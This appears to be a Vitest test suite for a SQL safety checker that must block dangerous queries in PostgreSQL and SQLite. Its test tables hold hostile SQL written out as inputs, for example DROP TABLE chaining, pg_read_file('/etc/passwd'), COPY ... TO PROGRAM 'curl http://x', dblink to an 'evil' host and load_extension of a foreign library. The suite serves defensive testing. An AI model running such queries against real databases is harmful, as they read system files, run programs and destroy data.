import { describe, expect, it } from 'vitest';
import { checkSafety } from '../src/index.js';

const rules = async (sql: string, opts: Partial<Parameters<typeof checkSafety>[1]> = {}) =>
  (await checkSafety(sql, { dialect: 'postgres', maxLimit: 1000, ...opts })).violations.map(
    (v) => v.rule,
  );

describe('spec 001 §3.3 examples (verbatim)', () => {
  it('SELECT 1 LIMIT 1; DROP TABLE orders -> expected 1 statement, got 2', async () => {
    const v = await checkSafety('SELECT 1 LIMIT 1; DROP TABLE orders', { dialect: 'postgres' });
    expect(v.pass).toBe(false);
    expect(v.violations[0]).toEqual({
      rule: 'multiple-statements',
      message: 'expected 1 statement, got 2',
    });
  });
  it('CTE shadowing a forbidden table -> table not allowed: salaries', async () => {
    const v = await checkSafety(
      'WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries LIMIT 5',
      { dialect: 'postgres', allowedTables: ['orders'] },
    );
    expect(v.violations).toEqual([
      { rule: 'table-not-allowed', message: 'table not allowed: salaries' },
    ]);
  });
  it('SELECT * INTO tmp_dump FROM orders LIMIT 5 -> blocked node: Into', async () => {
    expect(await rules('SELECT * INTO tmp_dump FROM orders LIMIT 5')).toEqual(['select-into']);
  });
});

// The spec's list of bypasses a static check must defeat: each is its own test.
const BYPASSES: [string, string, string[]][] = [
  ['chaining', 'SELECT 1; DROP TABLE orders', ['multiple-statements']],
  [
    'data-modifying CTE (DELETE)',
    'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d LIMIT 5',
    ['write'],
  ],
  [
    'data-modifying CTE (UPDATE)',
    'WITH u AS (UPDATE orders SET amount = 0 RETURNING *) SELECT * FROM u LIMIT 5',
    ['write'],
  ],
  [
    'data-modifying CTE (INSERT)',
    'WITH i AS (INSERT INTO orders (order_id) VALUES (1) RETURNING *) SELECT * FROM i LIMIT 5',
    ['write'],
  ],
  ['SELECT ... INTO new_table', 'SELECT * INTO new_table FROM orders LIMIT 5', ['select-into']],
  ['FOR UPDATE', 'SELECT * FROM orders LIMIT 5 FOR UPDATE', ['row-lock']],
  ['FOR SHARE', 'SELECT * FROM orders LIMIT 5 FOR SHARE', ['row-lock']],
  ['COPY', "COPY orders TO '/tmp/orders.csv'", ['not-a-query', 'copy']],
  [
    'COPY (query) TO PROGRAM',
    "COPY (SELECT * FROM orders) TO PROGRAM 'curl http://x'",
    ['unparseable'],
  ],
  ['SET', 'SET ROLE admin', ['not-a-query', 'session-state']],
  ['SET LOCAL', 'SET LOCAL statement_timeout = 0', ['not-a-query', 'session-state']],
  ['BEGIN', 'BEGIN', ['not-a-query', 'transaction']],
  ['pg_sleep', 'SELECT pg_sleep(600) LIMIT 1', ['dangerous-function']],
  ['set_config', "SELECT set_config('role', 'admin', false) LIMIT 1", ['dangerous-function']],
  ['pg_read_file', "SELECT pg_read_file('/etc/passwd') LIMIT 1", ['dangerous-function']],
  ['nextval', "SELECT nextval('orders_order_id_seq') LIMIT 1", ['dangerous-function']],
  ['lo_import', "SELECT lo_import('/etc/passwd') LIMIT 1", ['dangerous-function']],
  [
    'dblink_exec',
    "SELECT dblink_exec('host=evil', 'DROP TABLE orders') LIMIT 1",
    ['dangerous-function'],
  ],
  [
    'table function generate_series',
    'SELECT * FROM generate_series(1, 1000000000) LIMIT 5',
    ['function-not-allowed', 'table-function'],
  ],
  [
    'table function dblink',
    "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int) LIMIT 5",
    ['dangerous-function', 'table-function'],
  ],
  [
    'allow-list: CTE shadowing',
    'WITH orders AS (SELECT * FROM salaries) SELECT * FROM orders LIMIT 5',
    ['table-not-allowed'],
  ],
  ['allow-list: schema-qualified name', 'SELECT * FROM hr.orders LIMIT 5', ['table-not-allowed']],
  [
    'allow-list: forbidden table in a subquery',
    'SELECT * FROM orders WHERE customer_id IN (SELECT customer_id FROM salaries) LIMIT 5',
    ['table-not-allowed'],
  ],
  [
    'allow-list: forbidden table in a derived table',
    'SELECT s.x FROM (SELECT * FROM salaries) AS s LIMIT 5',
    ['table-not-allowed'],
  ],
  ['LIMIT ALL', 'SELECT * FROM orders LIMIT ALL', ['limit-not-literal']],
  ['LIMIT -1', 'SELECT * FROM orders LIMIT -1', ['limit-not-literal']],
  ['LIMIT 1e9', 'SELECT * FROM orders LIMIT 1e9', ['limit-not-literal']],
  ['LIMIT 10+100000', 'SELECT * FROM orders LIMIT 10+100000', ['limit-not-literal']],
  ['FETCH FIRST', 'SELECT * FROM orders FETCH FIRST 100000 ROWS ONLY', ['fetch-not-allowed']],
];

describe('spec 001 §3.3 bypass list: each is blocked', () => {
  for (const [name, sql, expected] of BYPASSES) {
    it(name, async () => {
      const got = await rules(sql, { allowedTables: ['orders', 'customers'] });
      expect(got.length).toBeGreaterThan(0);
      for (const r of expected) expect(got).toContain(r);
    });
  }
});

// SQLite- and PostgreSQL-specific paths an attacker would try.
const DIALECT_PATHS: [string, 'sqlite' | 'postgres', string, string][] = [
  ['PRAGMA', 'sqlite', 'PRAGMA writable_schema = 1', 'pragma'],
  ['PRAGMA read', 'sqlite', 'PRAGMA table_info(Album)', 'pragma'],
  [
    'pragma table-valued function',
    'sqlite',
    "SELECT * FROM pragma_table_info('Album') LIMIT 5",
    'table-function',
  ],
  ['ATTACH', 'sqlite', "ATTACH DATABASE '/tmp/evil.db' AS evil", 'attach'],
  ['DETACH', 'sqlite', 'DETACH evil', 'attach'],
  ['VACUUM INTO', 'sqlite', "VACUUM INTO '/tmp/copy.db'", 'blocked-statement'],
  [
    'load_extension',
    'sqlite',
    "SELECT load_extension('/tmp/evil.so') LIMIT 1",
    'dangerous-function',
  ],
  ['readfile', 'sqlite', "SELECT readfile('/etc/passwd') LIMIT 1", 'dangerous-function'],
  ['writefile', 'sqlite', "SELECT writefile('/tmp/x', 'y') LIMIT 1", 'dangerous-function'],
  ['fts3_tokenizer', 'sqlite', "SELECT fts3_tokenizer('simple') LIMIT 1", 'dangerous-function'],
  ['REPLACE INTO', 'sqlite', 'REPLACE INTO Album VALUES (1, 2, 3)', 'write'],
  ['CREATE TABLE AS', 'sqlite', 'CREATE TABLE x AS SELECT * FROM Album', 'ddl'],
  [
    'json_each table function',
    'sqlite',
    "SELECT * FROM json_each('[1,2]') LIMIT 5",
    'table-function',
  ],
  ['unvetted function', 'sqlite', 'SELECT zeroblob(1000000000) LIMIT 1', 'function-not-allowed'],
  [
    'schema-qualified pg_sleep',
    'postgres',
    'SELECT pg_catalog.pg_sleep(600) LIMIT 1',
    'dangerous-function',
  ],
  ['quoted pg_sleep', 'postgres', 'SELECT "pg_sleep"(600) LIMIT 1', 'dangerous-function'],
  [
    'current_setting',
    'postgres',
    "SELECT current_setting('is_superuser') LIMIT 1",
    'dangerous-function',
  ],
  ['pg_ls_dir', 'postgres', "SELECT pg_ls_dir('/') LIMIT 1", 'dangerous-function'],
  ['lo_export', 'postgres', "SELECT lo_export(1, '/tmp/x') LIMIT 1", 'dangerous-function'],
  ['dblink', 'postgres', "SELECT dblink('host=evil', 'SELECT 1') LIMIT 1", 'dangerous-function'],
  ['setval', 'postgres', "SELECT setval('s', 1) LIMIT 1", 'dangerous-function'],
  [
    'query_to_xml runs a SQL string',
    'postgres',
    "SELECT query_to_xml('DELETE FROM orders', true, true, '') LIMIT 1",
    'dangerous-function',
  ],
  [
    'pg_terminate_backend',
    'postgres',
    'SELECT pg_terminate_backend(1) LIMIT 1',
    'dangerous-function',
  ],
  ['pg_advisory_lock', 'postgres', 'SELECT pg_advisory_lock(1) LIMIT 1', 'dangerous-function'],
  ['CALL', 'postgres', 'CALL do_things()', 'blocked-statement'],
  ['PREPARE', 'postgres', 'PREPARE p AS SELECT 1', 'blocked-statement'],
  ['EXECUTE', 'postgres', 'EXECUTE p', 'blocked-statement'],
  ['DECLARE CURSOR', 'postgres', 'DECLARE c CURSOR FOR SELECT 1', 'blocked-statement'],
  ['LOCK TABLE', 'postgres', 'LOCK TABLE orders', 'blocked-statement'],
  ['RESET ALL', 'postgres', 'RESET ALL', 'blocked-statement'],
  ['REFRESH MATERIALIZED VIEW', 'postgres', 'REFRESH MATERIALIZED VIEW v', 'blocked-statement'],
  ['SHOW', 'postgres', 'SHOW search_path', 'blocked-statement'],
  [
    'EXPLAIN ANALYZE runs the query',
    'postgres',
    'EXPLAIN ANALYZE DELETE FROM orders',
    'unparseable',
  ],
  ['TRUNCATE', 'postgres', 'TRUNCATE orders', 'not-a-query'],
  ['COMMIT', 'postgres', 'COMMIT', 'not-a-query'],
  ['CREATE TEMP TABLE AS', 'postgres', 'CREATE TEMP TABLE x AS SELECT 1', 'ddl'],
  ['LISTEN parses as junk', 'postgres', 'LISTEN c', 'not-a-query'],
  [
    'unnest table function',
    'postgres',
    'SELECT * FROM unnest(ARRAY[1, 2]) LIMIT 5',
    'table-function',
  ],
  [
    'ROWS FROM',
    'postgres',
    'SELECT * FROM ROWS FROM (generate_series(1, 2)) LIMIT 5',
    'table-function',
  ],
  ['LIMIT parameter', 'postgres', 'SELECT * FROM orders LIMIT $1', 'limit-not-literal'],
  ['LIMIT NULL', 'postgres', 'SELECT * FROM orders LIMIT NULL', 'limit-not-literal'],
  ["LIMIT '5'", 'postgres', "SELECT * FROM orders LIMIT '5'", 'limit-not-literal'],
  ['LIMIT 5.0', 'postgres', 'SELECT * FROM orders LIMIT 5.0', 'limit-not-literal'],
  ['LIMIT (5)', 'postgres', 'SELECT * FROM orders LIMIT (5)', 'limit-not-literal'],
  ['LIMIT 0', 'postgres', 'SELECT * FROM orders LIMIT 0', 'limit-out-of-range'],
  ['LIMIT above max', 'postgres', 'SELECT * FROM orders LIMIT 1001', 'limit-out-of-range'],
  ['no LIMIT', 'postgres', 'SELECT * FROM orders', 'limit-missing'],
  [
    'LIMIT only inside a subquery',
    'postgres',
    'SELECT * FROM (SELECT * FROM orders LIMIT 5) s',
    'limit-missing',
  ],
  ['SQLite LIMIT -1 (unlimited)', 'sqlite', 'SELECT * FROM Album LIMIT -1', 'limit-not-literal'],
  ['SQLite LIMIT offset, -1', 'sqlite', 'SELECT * FROM Album LIMIT 5, -1', 'limit-not-literal'],
  ['unparseable', 'postgres', 'SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED', 'unparseable'],
  ['empty', 'postgres', '-- nothing here', 'empty'],
];

describe('dialect-specific attack paths', () => {
  for (const [name, dialect, sql, rule] of DIALECT_PATHS) {
    it(`${dialect}: ${name}`, async () => {
      const got = await rules(sql, { dialect });
      expect(got).toContain(rule);
    });
  }
});

describe('options', () => {
  it('allowedFunctions admits a vetted user function but never a denied one', async () => {
    expect(await rules('SELECT my_fn(1) LIMIT 1')).toEqual(['function-not-allowed']);
    expect(await rules('SELECT my_fn(1) LIMIT 1', { allowedFunctions: ['MY_FN'] })).toEqual([]);
    expect(await rules('SELECT pg_sleep(1) LIMIT 1', { allowedFunctions: ['pg_sleep'] })).toEqual([
      'dangerous-function',
    ]);
  });
  // Issue 25: a session-level advisory lock (and the random seed) outlives the query's
  // rolled-back transaction, so every form stays refused even when allow-listed.
  it.each([
    'pg_advisory_xact_lock_shared(1)',
    'pg_try_advisory_lock_shared(1)',
    'pg_try_advisory_xact_lock(1)',
    'pg_try_advisory_xact_lock_shared(1)',
    'pg_advisory_unlock_shared(1)',
    'pg_advisory_lock(1, 2)',
    'setseed(0.5)',
  ])('refuses %s, allow-listed or not', async (call) => {
    const name = call.slice(0, call.indexOf('('));
    expect(await rules(`SELECT ${call} LIMIT 1`, { allowedFunctions: [name] })).toEqual([
      'dangerous-function',
    ]);
  });

  it('maxLimit bounds the outermost LIMIT, and a set operation carries it', async () => {
    expect(await rules('SELECT 1 LIMIT 50', { maxLimit: 10 })).toEqual(['limit-out-of-range']);
    expect(await rules('SELECT 1 UNION SELECT 2 LIMIT 5')).toEqual([]);
    expect(await rules('(SELECT 1 LIMIT 5)')).toEqual([]);
    expect(await rules('(SELECT 1) LIMIT 5')).toEqual([]);
    expect(await rules('(SELECT 1 LIMIT 5) LIMIT 5000')).toEqual(['limit-out-of-range']);
  });
  it('allowedTables compares schema-qualified names and the default schema', async () => {
    const opts = { allowedTables: ['orders', 'hr.staff'] };
    expect(await rules('SELECT * FROM public.orders LIMIT 5', opts)).toEqual([]);
    expect(await rules('SELECT * FROM hr.staff LIMIT 5', opts)).toEqual([]);
    expect(await rules('SELECT * FROM staff LIMIT 5', opts)).toEqual(['table-not-allowed']);
    expect(await rules('SELECT * FROM "Orders" LIMIT 5', opts)).toEqual(['table-not-allowed']);
    expect(await rules('SELECT * FROM ORDERS LIMIT 5', opts)).toEqual([]);
  });
  it('a CTE does not leak out of the subquery that defines it', async () => {
    const sql =
      'SELECT * FROM (WITH salaries AS (SELECT 1 AS x) SELECT * FROM salaries) s, salaries LIMIT 5';
    expect(await rules(sql, { allowedTables: ['orders'] })).toEqual(['table-not-allowed']);
  });
  it('SQLite reads a self-reference as recursive only in a compound CTE body', async () => {
    const opts = { dialect: 'sqlite' as const, allowedTables: ['orders'] };
    expect(
      await rules('WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries LIMIT 5', opts),
    ).toEqual(['table-not-allowed']);
    expect(
      await rules(
        'WITH n AS (SELECT 1 AS x UNION ALL SELECT x + 1 FROM n WHERE x < 3) SELECT x FROM n LIMIT 5',
        opts,
      ),
    ).toEqual([]);
    expect(await rules('SELECT * FROM temp.orders LIMIT 5', opts)).toEqual(['table-not-allowed']);
    expect(await rules('SELECT * FROM main.orders LIMIT 5', opts)).toEqual([]);
  });
  it('a CTE reference is not a table, wherever it is read', async () => {
    const sql =
      'WITH big AS (SELECT * FROM orders WHERE amount > 10) SELECT * FROM big WHERE EXISTS (SELECT 1 FROM big b2) LIMIT 5';
    expect(await rules(sql, { allowedTables: ['orders'] })).toEqual([]);
  });
  it('every violation names a rule and a message', async () => {
    const v = await checkSafety('SELECT pg_sleep(1), * INTO x FROM t FOR UPDATE; DROP TABLE t', {
      dialect: 'postgres',
    });
    expect(v.violations.length).toBeGreaterThan(2);
    for (const x of v.violations) {
      expect(x.rule).toMatch(/^[a-z-]+$/);
      expect(x.message.length).toBeGreaterThan(5);
    }
  });
});
